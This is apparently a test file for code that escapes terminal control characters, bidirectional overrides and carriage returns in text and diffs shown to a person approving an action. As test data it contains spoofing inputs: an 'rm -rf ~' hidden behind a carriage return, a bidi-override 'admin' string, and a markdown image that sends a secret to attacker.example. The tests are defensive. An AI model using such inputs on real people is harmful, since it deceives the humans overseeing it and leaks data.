import assert from 'node:assert/strict';
import { visibleControls } from '../../protocol/displayText';
import { editDiffLines } from '../../protocol/run';

describe('text shown to a person who decides on it', () => {
  it('shows escape sequences, carriage returns and other controls as escapes, so nothing can draw over a question', () => {
    assert.equal(visibleControls('Done.\x1b[2J\x1b[1;1HAll good'), 'Done.\\u001b[2J\\u001b[1;1HAll good');
    assert.equal(visibleControls('rm -rf ~\r+ harmless'), 'rm -rf ~\\r+ harmless');
    assert.equal(visibleControls('a\x08\x08b\x07\x00\x7f\x9b'), 'a\\u0008\\u0008b\\u0007\\u0000\\u007f\\u009b');
    // An OSC sequence (terminal title, hyperlinks) loses its introducer and its terminator.
    assert.equal(visibleControls('\x1b]0;pwned\x07'), '\\u001b]0;pwned\\u0007');
  });

  it('shows bidirectional overrides and isolates, which reorder what is read', () => {
    assert.equal(visibleControls('access = "user\u202e \u2066// admin\u2069\u2066"'), 'access = "user\\u202e \\u2066// admin\\u2069\\u2066"');
  });

  it('writes JSON\'s own escapes, so arguments shown as JSON parse back to the same characters', () => {
    const args = { command: 'echo "\u202eexe.elif" \x9b\r' };
    assert.deepEqual(JSON.parse(visibleControls(JSON.stringify(args))), args);
  });

  it('keeps newlines, tabs, and every other character as they are', () => {
    const text = 'line one\n\tindented — ü ✓ 中文 🙂\nline three';
    assert.equal(visibleControls(text), text);
  });
});

describe('an edit as diff lines', () => {
  it('signs every line, split at every line ending, so a lone carriage return cannot start an unsigned line', () => {
    const diff = editDiffLines({ oldText: 'a\r\nb', newText: 'c\r```\r![x](https://attacker.example/?q=secret)\nd' });
    assert.deepEqual(diff.split('\n'), ['- a', '- b', '+ c', '+ ```', '+ ![x](https://attacker.example/?q=secret)', '+ d']);
    // Markdown and terminals take \r as a line ending too: no line of the result may start with anything but a sign.
    for (const line of diff.split(/\r\n|\r|\n/)) assert.match(line, /^[-+] /);
  });
});
